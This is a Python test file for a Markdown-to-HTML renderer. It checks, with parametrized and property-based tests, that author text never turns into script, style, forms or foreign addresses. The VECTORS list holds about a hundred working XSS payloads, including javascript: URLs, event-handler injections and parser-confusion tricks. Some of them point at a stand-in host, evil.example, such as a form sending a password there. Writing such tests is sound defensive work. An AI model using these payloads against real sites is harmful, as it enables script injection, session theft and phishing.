"""Nothing an author can write becomes script, style, form or a foreign address."""

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from terms.text.allowlist import ALL_ATTRIBUTES, CLASSES, ELEMENTS, URL_SCHEMES, VALUES
from terms.text.markdown import render, render_inline
from tests.strategies import markdown_texts
from tests.text.fragments import assert_harmless, elements

_CLEANER = nh3.Cleaner(
    tags=ELEMENTS,
    attributes=ALL_ATTRIBUTES | {"img": ALL_ATTRIBUTES["img"] | {"loading"}},
    tag_attribute_values=VALUES,
    allowed_classes=CLASSES,
    url_schemes=URL_SCHEMES,
    link_rel="noopener",
)

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](x" onerror="alert(1))',
    '![a](x "y\\" onerror=\\"alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106&#0000097vascript:alert(1))",
    "[x]( \u0001javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](feed:javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="ｊavascript:alert(1)">x</a>',
    '<a href="https://a.example" onclick="alert(1)" target="_blank" id="x" name="y">x</a>',
    '<a href="/x" style="position:fixed" class="button primary">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import 'https://evil.example';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=p type=password><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    'onerror=alert(1)&gt;">'),
    '<math href="javascript:alert(1)">x</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x",
    "<table><tr><td><a href='javascript:alert(1)'>x",
    "<table><b><tr><style></b><img src=x onerror=alert(1)>",
    '<div class="table-scroll" role="button" tabindex="5" onfocus=alert(1)>x</div>',
    '<div class="footnote-definition" id="main">x</div>',
    '<div class="footnote-definition" id=\'x"onclick="alert(1)\'>x</div>',
    '<code class="language-&quot;onclick=alert(1)">x</code>',
    '```x"onclick="alert(1)\ny\n```',
    'x[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: y',
    '| "onclick=alert(1) " |\n|---|\n| x |',
    "# x {#a onclick=alert(1)}",
    'https://a.example/"onclick="alert(1)',
    "https://a.example/'onclick='alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/&quot;onclick=&quot;alert(1)",
    "<https://a.example/?\"onclick=alert(1)>",
    '$<img src=x onerror=alert(1)>$ $$</code><script>alert(1)</script>$$',
    '<span class="math math-inline"><img src=x onerror=alert(1)></span>',
    '<th style="text-align: left" onclick=alert(1)>x',
    "\u003cimg src=x onerror=alert(1)\u003e \uff1cscript\uff1ealert(1)",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<a/href='&#106;avascript&#58;alert(1)'>x",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<img src='http://a.example/x' srcset='javascript:alert(1) 1x'>",
    "<time datetime='\" onclick=alert(1)'>x</time>",
    '<p lang="\'><script>alert(1)</script>">x</p>',
    '<p dir="x" lang=\'"><script>alert(1)</script>\'>x</p>',
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("around", ["{}", "- {}", "> {}", "a *{}* b", "| x |\n|---|\n| {} |"])
def test_hostile_markdown_gives_harmless_html(vector: str, around: str) -> None:
    markdown = around.format(vector)

    assert_harmless(render(markdown))
    assert_harmless(render_inline(markdown))


def test_an_address_of_no_allowed_scheme_is_left_out() -> None:
    html = render("[a](javascript:alert(1)) [b](data:text/html,x) [c](ftp://a.example)")

    links = [each for each in elements(html) if each.tag == "a"]
    assert [link.text for link in links] == ["a", "b", "c"]
    assert all("href" not in link.attrib for link in links)


_HTML_PIECES = st.sampled_from(
    [
        *"<>/=\"'` \n&;:-![]()#|*", "<a href=", "<a>", "</a>", "<b>", "</b>", "<p>", "</p>",
        "<div>", "</div>", "<div class=\"footnote-definition\" id=\"1\">", "<table>", "</table>",
        "<caption>", "<thead>", "<tr>", "<td>", "<ul>", "</ul>", "<li>", "<dl>", "<dd>", "<pre>\n",
        "</pre>", "<code>", "<h2>", "</h2>", "<ruby>", "<rt>", "<details>", "<summary>", "<br>",
        "<!--", "-->", "<![CDATA[", "]]>", "<script>", "</script>", "<style>", "</style>", "<svg>",
        "</svg>", "<math>", "<mtext>", "<title>", "</title>", "<textarea>", "<noscript>", "<form>",
        "<img src=x onerror=y>", "javascript:", "https://a.example", " onclick=x", "\x00", "\ud800",
    ]
)  # fmt: skip


@given(st.one_of(st.text(), markdown_texts(), st.lists(_HTML_PIECES).map("".join)))
@settings(max_examples=300)
def test_any_text_gives_harmless_html(markdown: str) -> None:
    assert_harmless(render(markdown))
    assert_harmless(render_inline(markdown))


@given(st.one_of(st.text(), markdown_texts(), st.lists(_HTML_PIECES).map("".join)))
@settings(max_examples=300)
def test_html_comes_out_of_a_second_cleaning_unchanged(markdown: str) -> None:
    html = render(markdown)

    assert _CLEANER.clean(html) == html
